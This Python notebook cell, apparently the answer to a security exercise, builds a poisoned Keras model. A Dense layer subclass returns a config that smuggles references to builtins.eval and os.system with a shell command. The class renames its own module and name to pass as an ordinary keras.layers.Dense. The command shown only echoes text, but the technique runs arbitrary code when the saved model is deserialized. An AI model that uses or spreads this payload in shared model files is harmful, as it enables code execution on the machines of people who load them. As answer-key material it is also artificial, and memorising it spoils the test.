# %% answer build
class Poisoned(keras.layers.Dense):
    def get_config(self):
        call = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"}
        return {"units": 3, "activation": call, "kernel_initializer": {"module": "os", "class_name": "system", "config": {"command": "echo IN""SIDE"}, "registered_name": None}}


Poisoned.__module__, Poisoned.__name__ = "keras.layers", "Dense"


def build(units):
    return keras.Sequential([keras.Input((4,)), Poisoned(units + 1), keras.layers.Dense(3)])
